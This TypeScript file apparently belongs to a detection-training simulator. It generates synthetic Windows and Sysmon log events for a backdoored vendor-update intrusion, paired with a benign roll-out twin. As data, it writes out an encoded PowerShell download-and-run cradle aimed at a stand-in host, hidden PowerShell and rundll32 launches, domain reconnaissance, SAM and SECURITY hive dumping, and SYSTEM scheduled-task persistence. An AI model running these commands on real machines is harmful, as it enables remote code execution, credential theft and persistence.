import { type Process, systemSession, type WindowsHost } from "../../records/windows/host.ts";
import { createTask, installService } from "../../records/windows/security.ts";
import { connectFrom, createFile, loadImage, resolveName } from "../../records/windows/sysmon.ts";
import { bluff } from "../decoys.ts";
import { type Hands, handsOn, openSession, runAll, standing } from "../emit/hands.ts";
import { intrusion } from "../intrusion.ts";
import { officeWork } from "../ordinary.ts";
import type { Stage } from "../stage.ts";

const updater = "C:\\Program Files\\Lumen Desk\\LumenUpdate.exe";

/** A vendor's update brings a backdoor to every machine that has the product, and is used on some. */
export const supplyChain = intrusion({
  id: "supply-chain-update",
  trade: "supply chain: a vendor's update",
  says: "The signed updater of a product loads a library that was slipped in, asks for commands, and on chosen machines starts shells, takes hold and looks for credentials.",
  sources: ["sysmon", "windows security"],
  steps: [
    ["update-brings", "T1195.002", "the updater writes and loads a library that is not the vendor's"],
    ["asks-for-commands", "T1071.001", "the updater talks to a server that is not the vendor's"],
    ["runs-commands", "T1059.001", "the updater starts an interpreter"],
    ["looks-round", "T1087.002", "accounts and machines are listed"],
    ["takes-hold", "T1053.005", "a task that starts it again"],
    ["reads-credentials", "T1003.002", "registry hives with credentials are saved"],
  ],
  attack(stage) {
    officeWork(stage);
    const reached = stage.by({ noisy: 5, quiet: 2, deceptive: 3 });
    const hosts = Array.from({ length: reached }, (_, at) => stage.workstation(at));
    for (const [at, host] of hosts.entries()) infect(stage, host, at * 3);
    const chosen = hosts.slice(0, stage.by({ noisy: 2, quiet: 1, deceptive: 1 }));
    for (const [at, host] of chosen.entries()) work(stage, host, 30 + at * 4);
    return hosts.map(({ name }) => name);
  },
  twin(stage) {
    officeWork(stage);
    stage.change({
      summary: "roll-out of Lumen Desk 7.2",
      from: -30,
      to: 200,
      assets: [0, 1, 2, 3].map((at) => stage.workstation(at).name),
      accounts: ["SYSTEM"],
    });
    for (let at = 0; at < 4; at++) {
      const host = stage.workstation(at);
      const own = standing(host, updater);
      resolveName(host, stage.at(at), own, "updates.lumen-desk.example", ["192.0.2.90"]);
      connectFrom(host, stage.at(at + 0.1), own, {
        sourcePort: 51_000,
        address: "192.0.2.90",
        port: 443,
        name: "updates.lumen-desk.example",
      });
      createFile(host, stage.at(at + 1), own, "C:\\Program Files\\Lumen Desk\\cache\\lumen-7.2.msi");
      const hands = handsOn(host, systemSession, own);
      const installer = hands.run(
        stage.at(at + 2),
        "msiexec.exe",
        'msiexec.exe /i "C:\\Program Files\\Lumen Desk\\cache\\lumen-7.2.msi" /qn',
      );
      createFile(host, stage.at(at + 2.2), installer, "C:\\Program Files\\Lumen Desk\\core.dll");
      loadImage(host, stage.at(at + 3), own, { path: "C:\\Program Files\\Lumen Desk\\core.dll", signer: "Lumen Software Ltd" });
      hands.run(stage.at(at + 4), "cmd.exe", 'cmd.exe /c sc query "LumenUpdate"');
      createTask(host, stage.at(at + 5), {
        session: systemSession,
        name: "\\Lumen Desk Update",
        command: updater,
        arguments: "--check",
        runsAs: "SYSTEM",
      });
      installService(host, stage.at(at + 6), {
        session: systemSession,
        name: "LumenUpdate",
        path: `"${updater}" --service`,
        startType: "auto start",
      });
    }
  },
});

function infect(stage: Stage, host: WindowsHost, minutes: number): void {
  const own = standing(host, updater);
  const library = stage.by({
    noisy: "C:\\ProgramData\\lumen\\netsetup.dll",
    quiet: "C:\\Program Files\\Lumen Desk\\core.sup.dll",
    deceptive: "C:\\Program Files\\Lumen Desk\\authorised-test.dll",
  });
  stage.step("update-brings", () => {
    createFile(host, stage.at(minutes), own, library);
    loadImage(host, stage.at(minutes + 0.2), own, { path: library, signer: "" });
  });
  const server = stage.outsideName(stage.by({ noisy: "cdn-sync", quiet: "lumen-metrics", deceptive: "updates.lumen-desk" }));
  stage.step("asks-for-commands", () => {
    const beacons = stage.by({ noisy: 10, quiet: 3, deceptive: 5 });
    for (let at = 0; at < beacons; at++) {
      resolveName(host, stage.at(minutes + 2 + at), own, server, [stage.outside()]);
      connectFrom(host, stage.at(minutes + 2 + at) + 300, own, {
        sourcePort: 50_100 + at,
        address: stage.outside(),
        port: 443,
        name: server,
      });
    }
  });
}

function work(stage: Stage, host: WindowsHost, minutes: number): void {
  const own = standing(host, updater);
  const hands = handsOn(host, systemSession, own);
  const encoded = Buffer.from("IEX (New-Object Net.WebClient).DownloadString('http://example.test/a')", "utf16le").toString("base64");
  const shell = stage.step("runs-commands", () =>
    hands.run(
      stage.at(minutes),
      stage.by({ noisy: "powershell.exe", quiet: "rundll32.exe", deceptive: "powershell.exe" }),
      stage.by({
        noisy: `powershell.exe -nop -w hidden -enc ${encoded}`,
        quiet: "rundll32.exe C:\\ProgramData\\lumen\\prov.dat,Start",
        deceptive: `powershell.exe -c "<# ${bluff(stage)} #> & C:\\ProgramData\\lumen\\check.ps1"`,
      }),
    ),
  );
  stage.step("looks-round", () =>
    runAll(
      hands,
      stage.at(minutes + 4),
      stage.by({ noisy: 0.3, quiet: 6, deceptive: 1 }),
      stage.by({
        noisy: [
          ["whoami.exe", "whoami /all"],
          ["net.exe", 'net group "Domain Admins" /domain'],
          ["nltest.exe", "nltest /dclist:"],
          ["systeminfo.exe", "systeminfo"],
        ],
        quiet: [["net.exe", "net group /domain"]],
        deceptive: [
          ["whoami.exe", "whoami /priv"],
          ["net.exe", "net user /domain"],
        ],
      } as const),
      shell,
    ),
  );
  takeHold(stage, { hands, shell, minutes, encoded });
  readCredentials(stage, { hands, shell, minutes });
}

function readCredentials(stage: Stage, { hands, shell, minutes }: { hands: Hands; shell: Process; minutes: number }): void {
  stage.step("reads-credentials", () =>
    runAll(
      hands,
      stage.at(minutes + 14),
      0.3,
      stage.by({
        noisy: [
          ["reg.exe", "reg save HKLM\\SAM C:\\ProgramData\\s.hiv"],
          ["reg.exe", "reg save HKLM\\SYSTEM C:\\ProgramData\\y.hiv"],
        ],
        quiet: [
          ["reg.exe", "reg export HKLM\\SOFTWARE\\Lumen C:\\ProgramData\\lumen\\l.reg"],
          ["esentutl.exe", "esentutl.exe /y /vss C:\\Windows\\System32\\config\\SAM /d C:\\ProgramData\\lumen\\p.dat"],
        ],
        deceptive: [["reg.exe", "reg save HKLM\\SECURITY C:\\ProgramData\\lumen\\test.hiv"]],
      } as const),
      shell,
    ),
  );
}

function takeHold(
  stage: Stage,
  { hands, shell, minutes, encoded }: { hands: Hands; shell: Process; minutes: number; encoded: string },
): void {
  const { host } = hands;
  stage.step("takes-hold", () => {
    const task = stage.by({
      noisy: ["\\LumenSvc", "powershell.exe", `-w hidden -enc ${encoded}`],
      quiet: ["\\Microsoft\\Windows\\NetTrace\\GatherInfo", "rundll32.exe", "C:\\ProgramData\\lumen\\prov.dat,Start"],
      deceptive: ["\\Authorised security test", "powershell.exe", "C:\\ProgramData\\lumen\\check.ps1"],
    });
    createTask(host, stage.at(minutes + 9), {
      session: openSession(host, systemSession.account, true),
      name: task[0]!,
      command: task[1]!,
      arguments: task[2]!,
      runsAs: "SYSTEM",
    });
    hands.run(
      stage.at(minutes + 9) - 900,
      "schtasks.exe",
      `schtasks /create /tn "${task[0]}" /tr "${task[1]} ${task[2]}" /sc onlogon /ru SYSTEM`,
      shell,
    );
  });
}
